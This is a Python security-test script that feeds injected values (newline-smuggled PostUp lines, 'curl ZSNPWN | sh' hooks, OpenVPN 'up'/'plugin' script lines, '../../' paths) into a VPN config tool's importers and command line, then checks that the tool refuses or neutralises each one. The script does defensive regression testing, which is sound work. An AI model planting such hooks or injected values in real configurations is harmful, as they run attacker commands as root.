"""The hostile pass of issue 32: every import source and every format zsn writes, given
what a neighbour with write access to the source (or a user at the prompt) could put
in a value, run through a tree's real command line.

    .venv/bin/python scripts/hostile_pass.py OLD_TREE NEW_TREE [SURFACE_WORDS]

Each check runs ``python -m zsn --root SCRATCH ...`` with the tree as working folder
(so that tree's zsn runs) on a scratch root built from the real sources in
tests/fixtures (wireguard/imports, openvpn, links: their SOURCES.md), one value
changed. A check **holds** when zsn refuses it (exit 2, nothing under /etc changed)
or writes only what the value means (no line it did not mean, no control character,
no value the reading program refuses, no duplicate, nothing dropped silently). It
prints every check that does not hold on either tree, then the counts: checks, held
on the old tree, held on the new, fixed (held now, not before) and still open.
"""

from __future__ import annotations

import json
import os
import shutil
import sqlite3
import subprocess
import sys
import tempfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parents[1]
FIXTURES = HERE / "tests" / "fixtures"
IMPORTS = FIXTURES / "wireguard" / "imports"
MARK = "ZSNPWN"
VALUES = {
    "newline": f"x\nPostUp = {MARK}", "return": f"x\rPostUp = {MARK}",
    "control": f"x\x1b]0;{MARK}\x07", "hash": f"x # {MARK}", "equals": f"x = {MARK}",
    "quotes": f"x\"'{MARK}", "long": MARK + "x" * 100_000,
}
"""What a hostile value holds (each carries MARK, so a file it reaches says so)."""
HOOKS = ("preup", "postup", "predown", "postdown")


@dataclass
class Check:
    surface: str
    value: str
    prepare: Callable[[Path, Path], list[str]]
    """Builds the scratch root for a tree; returns the arguments after ``--root ROOT``."""
    unsafe: Callable[[subprocess.CompletedProcess[str], dict[str, bytes]], str | None] = \
        lambda result, files: None
    """A reason the outcome does not hold beyond the general ones, or None (given the
    root's files afterwards, backups left out)."""


def _files(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file() and not p.is_symlink()}


def judge(check: Check, tree: Path) -> str | None:
    """None when the check holds on `tree`, else why not."""
    with tempfile.TemporaryDirectory(prefix="zsn-hostile-") as scratch:
        root = Path(scratch) / "root"
        root.mkdir()
        args = check.prepare(root, tree)
        before = _files(root)
        result = subprocess.run([sys.executable, "-m", "zsn", "--root", str(root), *args],
                                cwd=tree, capture_output=True, text=True, timeout=120,
                                check=False, env={**os.environ, "PYTHONPATH": str(tree)})
        after = _files(root)
    changed = {path: text for path, text in after.items() if before.get(path) != text}
    if "Traceback" in result.stderr or result.returncode not in (0, 2):
        return f"exit {result.returncode}: {result.stderr.strip().splitlines()[-1:]}"
    if result.returncode == 2:
        return f"refused but wrote {sorted(changed)}" if changed else None
    for path, data in changed.items():
        if path.endswith(".zsn-bak"):
            continue  # the file as it was (zsn's backup of what it replaced)
        text = data.decode("utf-8", errors="replace")
        if any(ord(ch) < 32 and ch not in "\n\t" or 0x7f <= ord(ch) < 0xa0 for ch in text):
            return f"wrote a control character into {path}"
        for line in text.splitlines():
            body = line.removeprefix("#[disabled] ").strip()
            if MARK in line and not body.startswith(("#", ";")):
                return f"wrote {line[:60]!r} into {path}"
    shown = result.stdout
    if MARK in shown and any(line.split("=")[0].strip().lower() in HOOKS
                             for line in shown.splitlines() if MARK in line):
        return "printed a command line"
    return check.unsafe(result, {path: data for path, data in after.items()
                                 if not path.endswith(".zsn-bak")})


# -- sources -------------------------------------------------------------------------------


def v14(field: str, value: object, extra: tuple[str, ...] = ("--endpoint", "vpn.example.com"),
        server: bool = False) -> Callable[[Path, Path], list[str]]:
    def prepare(root: Path, tree: Path) -> list[str]:
        folder = root / "srv/import"
        shutil.copytree(IMPORTS / "wg-easy" / "v14.0.0", folder)
        data = json.loads((folder / "wg0.json").read_text())
        clients = list(data["clients"].values())
        target = data["server"] if server else clients[0]
        target[field] = clients[1][field] if value == "duplicate" else value
        (folder / "wg0.json").write_text(json.dumps(data))
        return ["wg", "import", "wg-easy", "/srv/import/wg0.json", *extra]
    return prepare


def v14_env(variable: str, value: str) -> Callable[[Path, Path], list[str]]:
    def prepare(root: Path, tree: Path) -> list[str]:
        folder = root / "srv/import"
        shutil.copytree(IMPORTS / "wg-easy" / "v14.0.0", folder)
        lines = [line for line in (folder / "environment").read_text().splitlines()
                 if not line.startswith(variable + "=")]
        (folder / "environment").write_text("\n".join([*lines, f"{variable}={value}"]) + "\n")
        return ["wg", "import", "wg-easy", "/srv/import", "--env", "/srv/import/environment"]
    return prepare


def v15(sql: str, *parameters: object) -> Callable[[Path, Path], list[str]]:
    def prepare(root: Path, tree: Path) -> list[str]:
        copy = root / "srv/wg-easy.db"
        copy.parent.mkdir(parents=True)
        shutil.copyfile(IMPORTS / "wg-easy" / "v15" / "wg-easy.db", copy)
        with sqlite3.connect(copy) as db:
            for index in ("clients_table_ipv4_address_unique",
                          "clients_table_ipv6_address_unique", "public_key_interface_unique"):
                db.execute(f"DROP INDEX {index}")
            db.execute(sql, parameters)
        return ["wg", "import", "wg-easy", "/srv/wg-easy.db"]
    return prepare


def wg_quick(change: Callable[[Path], None], *extra: str) -> Callable[[Path, Path], list[str]]:
    def prepare(root: Path, tree: Path) -> list[str]:
        folder = root / "srv/old"
        shutil.copytree(IMPORTS / "wg-quick" / "etc-wireguard", folder)
        change(folder)
        return ["wg", "import", "wg-quick", "/srv/old", *extra]
    return prepare


def pivpn(change: Callable[[Path], None], *args: str) -> Callable[[Path, Path], list[str]]:
    def prepare(root: Path, tree: Path) -> list[str]:
        shutil.copytree(IMPORTS / "pivpn" / "ci-ipv4", root, dirs_exist_ok=True)
        change(root)
        if args:  # imported first, then the command
            subprocess.run([sys.executable, "-m", "zsn", "--root", str(root), "wg", "import",
                            "pivpn"], cwd=tree, capture_output=True, check=False, timeout=120,
                           env={**os.environ, "PYTHONPATH": str(tree)})
        return list(args) or ["wg", "import", "pivpn"]
    return prepare


def _replace(path: str, old: str, new: str) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        target = root / path
        target.write_text(target.read_text().replace(old, new, 1))
    return change


def _peer_add(*args: str) -> Callable[[Path, Path], list[str]]:
    def prepare(root: Path, tree: Path) -> list[str]:
        wireguard = root / "etc/wireguard"
        wireguard.mkdir(parents=True)
        os.chmod(wireguard, 0o700)
        (wireguard / "wg0.conf").write_text((FIXTURES / "wireguard/zcapwg1.conf").read_text())
        return ["peer", "add", "wg0", *args, "--endpoint", "vpn.example.com:51820"] \
            if "--endpoint" not in args else ["peer", "add", "wg0", *args]
    return prepare


def _link(*args: str) -> Callable[[Path, Path], list[str]]:
    def prepare(root: Path, tree: Path) -> list[str]:
        sys.path.insert(0, str(HERE))
        from tests.lab.dry_runs import build_tree

        built, _programs = build_tree(root.parent / "tree")
        shutil.rmtree(root)
        shutil.copytree(built, root, symlinks=True)
        return ["link", *args, "--config-only"]
    return prepare


def _ovpn(profile: str, *extra: str) -> Callable[[Path, Path], list[str]]:
    def prepare(root: Path, tree: Path) -> list[str]:
        (root / "etc/openvpn/client").mkdir(parents=True)
        source = root / "srv/provider.ovpn"
        source.parent.mkdir(parents=True)
        source.write_text(profile)
        return ["vpn", "import", "/srv/provider.ovpn", *extra]
    return prepare


def _written_hooks(result: subprocess.CompletedProcess[str], files: dict[str, bytes]
                   ) -> str | None:
    """A command the source ran as root, in a config zsn now manages without
    --keep-commands."""
    if result.returncode != 0:
        return None
    for path, data in files.items():
        if not path.startswith(("etc/wireguard/", "etc/openvpn/")):
            continue
        for line in data.decode(errors="replace").splitlines():
            key = line.split("=")[0].strip().lower()
            words = line.split()
            if key in HOOKS or (path.endswith(".conf") and "openvpn" in path and words
                                and words[0] in ("up", "down", "script-security", "plugin")):
                return f"wrote {line[:60]!r} into {path}"
    return None


def _no_expiry(result: subprocess.CompletedProcess[str], files: dict[str, bytes]
               ) -> str | None:
    if result.returncode != 0:
        return None
    written = b"".join(data for path, data in files.items() if path.startswith("etc/"))
    return "imported with no expiry (never expires)" if b"Expires" not in written else None


def _wrote(result: subprocess.CompletedProcess[str], files: dict[str, bytes]) -> str | None:
    return "written" if result.returncode == 0 else None


def checks() -> list[Check]:
    return [*_v14_checks(), *_v15_checks(), *_file_checks(), *_given_checks()]


def _v14_checks() -> list[Check]:
    found: list[Check] = []
    for field in ("name", "address", "publicKey", "privateKey", "preSharedKey"):
        for name, value in VALUES.items():
            found.append(Check(f"wg-easy v14 wg0.json client.{field}", name, v14(field, value)))
    for field in ("privateKey", "address"):
        for name, value in VALUES.items():
            found.append(Check(f"wg-easy v14 wg0.json server.{field}", name,
                               v14(field, value, server=True)))
    for field in ("name", "address", "publicKey"):
        found.append(Check(f"wg-easy v14 wg0.json client.{field}", "duplicate",
                           v14(field, "duplicate"), _wrote))
    for value in ("short", "c2hvcnQ="):
        found.append(Check("wg-easy v14 wg0.json client.preSharedKey", f"not a key ({value})",
                           v14("preSharedKey", value), _wrote))
    for value in ("next tuesday", "0001-01-01T00:00:00+14:00", "9999-99-99"):
        found.append(Check("wg-easy v14 wg0.json client.expiredAt", f"unreadable ({value})",
                           v14("expiredAt", value), _no_expiry))
    found.append(Check("wg-easy v14 wg0.json", "nested 100,000 deep",
                       _deep_json))
    for variable in ("WG_HOST", "WG_PORT", "WG_DEFAULT_DNS", "WG_ALLOWED_IPS", "WG_MTU",
                     "WG_PERSISTENT_KEEPALIVE", "WG_CONFIG_PORT"):
        for name in ("hash", "equals", "quotes", "long"):
            found.append(Check(f"wg-easy v14 environment {variable}", name,
                               v14_env(variable, VALUES[name])))
    return found


def _v15_checks() -> list[Check]:
    found: list[Check] = []
    for column in ("name", "ipv4_address", "ipv6_address", "public_key", "private_key",
                   "pre_shared_key", "server_endpoint", "mtu", "persistent_keepalive"):
        for name, value in VALUES.items():
            found.append(Check(f"wg-easy v15 clients_table.{column}", name, v15(
                f"UPDATE clients_table SET {column} = ? WHERE id = 1", value)))
    for column in ("dns", "allowed_ips", "server_allowed_ips"):
        for name, value in VALUES.items():
            found.append(Check(f"wg-easy v15 clients_table.{column}", name, v15(
                f"UPDATE clients_table SET {column} = ? WHERE id = 1", json.dumps([value]))))
    for table, column in (("interfaces_table", "ipv4_cidr"), ("interfaces_table", "port"),
                          ("interfaces_table", "mtu"), ("user_configs_table", "host"),
                          ("user_configs_table", "port")):
        for name, value in VALUES.items():
            found.append(Check(f"wg-easy v15 {table}.{column}", name,
                               v15(f"UPDATE {table} SET {column} = ?", value)))
    found.append(Check("wg-easy v15 interfaces_table.name", "a path",
                       v15("UPDATE interfaces_table SET name = '../../srv/x'")))
    for column, what in (("public_key", "duplicate"), ("ipv4_address", "duplicate")):
        found.append(Check(f"wg-easy v15 clients_table.{column}", what, v15(
            f"UPDATE clients_table SET {column} = (SELECT {column} FROM clients_table "
            "WHERE id = 2) WHERE id = 1"), _wrote))
    found.append(Check("wg-easy v15 clients_table.server_allowed_ips",
                       "another client's address", v15(
                           "UPDATE clients_table SET server_allowed_ips = '[\"10.8.0.3/32\"]' "
                           "WHERE id = 1"), _wrote))
    found.append(Check("wg-easy v15 clients_table.pre_shared_key", "not a key (short)",
                       v15("UPDATE clients_table SET pre_shared_key = 'short' WHERE id = 1"),
                       _wrote))
    found.append(Check("wg-easy v15 clients_table.expires_at", "unreadable (soon)",
                       v15("UPDATE clients_table SET expires_at = 'soon' WHERE id = 1"),
                       _no_expiry))
    found.append(Check("wg-easy v15 clients_table.post_up", "a command", v15(
        f"UPDATE clients_table SET post_up = 'curl {MARK} | sh' WHERE id = 1"),
        _written_hooks))
    found.append(Check("wg-easy v15 hooks_table.post_up", "a command", v15(
        f"UPDATE hooks_table SET post_up = 'curl {MARK} | sh'"), _written_hooks))
    return found


def _file_checks() -> list[Check]:
    """PiVPN, plain wg-quick folders and OpenVPN profiles."""
    found: list[Check] = []
    found.append(Check("PiVPN setupVars.conf pivpnDEV", "a path", pivpn(_replace(
        "etc/pivpn/wireguard/setupVars.conf", "pivpnDEV=wg0", "pivpnDEV=../../srv/x"))))
    for name in ("hash", "quotes", "control"):
        found.append(Check("PiVPN setupVars.conf pivpnHOST", name, pivpn(_append(
            "etc/pivpn/wireguard/setupVars.conf", f"pivpnHOST={VALUES[name]}\n"))))
    found.append(Check("PiVPN wg0.conf", "a PostUp", pivpn(_replace(
        "etc/wireguard/wg0.conf", "[Interface]\n", f"[Interface]\nPostUp = curl {MARK}\n")),
        _written_hooks))
    found.append(Check("PiVPN configs/CLIENT.conf, then zsn peer show", "a PostUp", pivpn(
        _insert_client_hook, "peer", "show", "wg0", "alice-phone")))
    found.append(Check("PiVPN wg0.conf", "a bad PresharedKey", pivpn(_bad_psk), _wrote))
    # plain wg-quick folders
    found.append(Check("wg-quick folder server config", "a PostUp", wg_quick(_replace(
        "wg0.conf", "ListenPort", f"PostUp = curl {MARK}\nListenPort")), _written_hooks))
    found.append(Check("wg-quick folder client config", "a PreUp", wg_quick(_replace(
        "alice.conf", "[Peer]", f"PreUp = curl {MARK}\n[Peer]")), _written_hooks))
    found.append(Check("wg-quick folder server config", "a PresharedKey 'short'",
                       wg_quick(_replace_line_starting("wg0.conf", "PresharedKey",
                                                       "PresharedKey = short")), _wrote))
    found.append(Check("wg-quick folder server config", "two peers with one key",
                       wg_quick(_duplicate_peer_key), _wrote))
    # OpenVPN import
    for line in ("up /tmp/x.sh", "script-security 2", "plugin /tmp/x.so",
                 "setenv opt down /tmp/x.sh", "route-up /tmp/x.sh", "iproute /tmp/ip"):
        found.append(Check("OpenVPN profile import", line, _ovpn(
            f"client\nremote vpn.example.net 1194\n{line}\n"), _written_hooks))
    return found


def _given_checks() -> list[Check]:
    """What zsn writes from what it is given at the prompt."""
    found: list[Check] = []
    for name in ("newline", "return", "control", "hash", "quotes", "long"):
        value = VALUES[name]
        found.append(Check("zsn peer add NAME", name, _peer_add(value)))
        found.append(Check("zsn peer add --dns", name, _peer_add("alice2", "--dns", value)))
        found.append(Check("zsn peer add --endpoint", name,
                           _peer_add("alice2", "--endpoint", value)))
        found.append(Check("zsn peer add --route", name, _peer_add("alice2", "--route", value)))
        found.append(Check("zsn peer add --ip", name, _peer_add("alice2", "--ip", value)))
        found.append(Check("zsn link create bond NAME (netplan)", name,
                           _link("create", "bond", value, "--members", "eth2")))
        found.append(Check("zsn link create bond --members (netplan)", name,
                           _link("create", "bond", "bond7", "--members", value)))
    return found


def _append(path: str, text: str) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        target = root / path
        target.write_text(target.read_text() + text)
    return change


def _insert_client_hook(root: Path) -> None:
    target = root / "etc/wireguard/configs/alice-phone.conf"
    target.write_text(target.read_text().replace("[Peer]", f"PostUp = curl {MARK}\n[Peer]", 1))


def _bad_psk(root: Path) -> None:
    target = root / "etc/wireguard/wg0.conf"
    lines = target.read_text().splitlines(keepends=True)
    at = next(i for i, line in enumerate(lines) if line.startswith("PresharedKey"))
    lines[at] = "PresharedKey = short\n"
    target.write_text("".join(lines))


def _replace_line_starting(path: str, start: str, new: str) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        target = root / path
        lines = target.read_text().splitlines(keepends=True)
        at = next(i for i, line in enumerate(lines) if line.startswith(start))
        lines[at] = new + "\n"
        target.write_text("".join(lines))
    return change


def _duplicate_peer_key(folder: Path) -> None:
    target = folder / "wg0.conf"
    text = target.read_text()
    keys = [line.split("=", 1)[1].strip() for line in text.splitlines()
            if line.startswith("PublicKey")]
    target.write_text(text.replace(keys[1], keys[0]))


def _deep_json(root: Path, tree: Path) -> list[str]:
    folder = root / "srv/import"
    folder.mkdir(parents=True)
    (folder / "wg0.json").write_text("[" * 100_000 + "]" * 100_000)
    return ["wg", "import", "wg-easy", "/srv/import/wg0.json", "--endpoint", "vpn.example.com"]


def main() -> int:
    old, new = Path(sys.argv[1]).resolve(), Path(sys.argv[2]).resolve()
    only = sys.argv[3] if len(sys.argv) > 3 else ""
    counts = {"checks": 0, "held before": 0, "held now": 0, "fixed": 0, "open": 0}
    for check in checks():
        if only not in check.surface:
            continue
        before, after = judge(check, old), judge(check, new)
        counts["checks"] += 1
        counts["held before"] += before is None
        counts["held now"] += after is None
        counts["fixed"] += before is not None and after is None
        counts["open"] += after is not None
        if before is not None or after is not None:
            print(f"{check.surface} [{check.value}]: before: {before or 'holds'}; "
                  f"now: {after or 'holds'}")
    print(json.dumps(counts))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
